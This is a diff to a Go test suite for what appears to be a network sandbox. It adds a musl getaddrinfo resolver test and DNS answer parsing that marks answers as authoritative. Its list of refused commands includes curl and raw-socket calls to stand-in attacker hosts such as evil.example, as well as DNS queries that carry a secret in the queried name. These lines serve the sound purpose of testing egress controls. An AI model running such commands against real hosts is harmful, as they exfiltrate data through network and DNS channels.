@@ -53,6 +53,7 @@ var reaching = []outing{
 // straying are commands that are refused.
 var straying = []outing{
 	{"another name", "curl", "curl -sS http://evil.example/", "network to evil.example (", "this is evil"},
+	{"another name, by musl", "musl-gcc", "./resolve evil.example", "Name does not resolve", "resolved"},
 	{"a name of /etc/hosts", "curl", "curl -sS http://unnamed.example/", "network to ", "this is evil"},
 	{"an address", "curl", "curl -sS http://" + evilAt + "/", "network to ", "this is evil"},
 	{"an address in IPv6", "python3", `python3 -c 'import socket; s = socket.socket(socket.AF_INET6); s.connect(("::ffff:` + evilAt + `", 80)); s.send(b"GET / HTTP/1.0\r\n\r\n"); print(s.recv(999), s.recv(999))'`, "network to ", "this is evil"},
@@ -64,13 +65,14 @@ var straying = []outing{
 	{"metadata", "curl", "curl -sS http://metadata.example/", "resolves to the ", "this is metadata"},
 	{"loopback", "curl", "curl -sS http://loop.example/", "resolves to the loopback address 127.0.0.1", "-"},
 	{"UDP", "python3", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("` + goodAt + `", 9999)); print("sent")'`, "", "-"},
-	{"a question that carries data", "python3", "python3 ask.py secret-of-mine.evil.example", "network to secret-of-mine.evil.example", "answer 3"},
+	{"a question that carries data", "python3", "python3 ask.py secret-of-mine.evil.example", "network to secret-of-mine.evil.example", "answer 3 from outside"},
 	{"a type that carries data", "python3", "python3 ask.py secret-of-mine.evil.example 16", "network to secret-of-mine.evil.example", "-"},
 	{"a question over TCP", "python3", "python3 ask.py secret-of-mine.evil.example 1 tcp", "network to secret-of-mine.evil.example", "-"},
 	{"an interface", "python3", `python3 -c 'import socket; s = socket.socket(); s.setsockopt(1, 25, b"eth0\0"); s.connect(("` + evilAt + `", 80)); s.send(b"GET / HTTP/1.0\r\n\r\n"); print(s.recv(999), s.recv(999))'`, "", "-"},
 }
 
-// askProgram sends a question for a name to a resolver of its choice.
+// askProgram sends a question for a name to a resolver of its choice. That of outside
+// says that it is the authority.
 const askProgram = `import socket, struct, sys
 name = b"".join(bytes([len(p)]) + p.encode() for p in sys.argv[1].split(".")) + b"\0"
 query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">2H", int(sys.argv[2]) if len(sys.argv) > 2 else 1, 1)
@@ -79,7 +81,8 @@ s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGR
 s.settimeout(5)
 s.connect(("` + resolverAt + `", 53))
 s.send(struct.pack(">H", len(query)) * tcp + query)
-print("answer", s.recv(512)[3 + 2 * tcp] & 15)
+answer = s.recv(512)[2 * tcp:]
+print("answer", answer[3] & 15, "from outside" if answer[2] & 4 else "from here")
 `
 
 // TestNetworkByName: real programs reach what rules name, and nothing else; what is
@@ -139,7 +142,23 @@ func guests(t *testing.T) []guest {
 func (n *internet) furnish(g guest) {
 	n.put(filepath.Join(g.dir, "ca.pem"), n.ca)
 	n.put(filepath.Join(g.dir, "ask.py"), askProgram)
+	source, program := filepath.Join(g.dir, "resolve.c"), filepath.Join(g.dir, "resolve")
+	n.put(source, resolveProgram)
+	if out, err := exec.Command("musl-gcc", "-static", "-o", program, source).CombinedOutput(); err != nil {
+		n.t.Logf("programs of musl are not tried: %v %s", err, out)
+	}
 }
+
+// resolveProgram asks for a name as the C library has it. That of Alpine waits long
+// where it does not understand an answer, and then has its caller try again.
+const resolveProgram = `#include <netdb.h>
+#include <stdio.h>
+int main(int argc, char **argv) {
+	struct addrinfo *found;
+	int failed = getaddrinfo(argv[1], "80", 0, &found);
+	puts(failed ? gai_strerror(failed) : "resolved");
+}
+`
 
 // enter starts a server for a guest.
 func (n *internet) enter(t *testing.T, g guest, args ...string) *client {
